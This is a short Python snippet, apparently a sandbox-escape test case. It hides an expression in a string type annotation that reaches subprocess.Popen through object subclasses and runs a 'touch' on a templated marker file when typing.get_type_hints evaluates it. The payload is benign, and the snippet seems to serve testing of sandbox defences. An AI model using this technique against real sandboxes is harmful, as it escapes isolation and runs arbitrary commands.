# escape: typing.get_type_hints evaluates a string annotation with the function's globals
# effect: marker
import typing
def f(x: "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['touch', '{marker}']).wait()"):
    pass
typing.get_type_hints(f)
return "done"
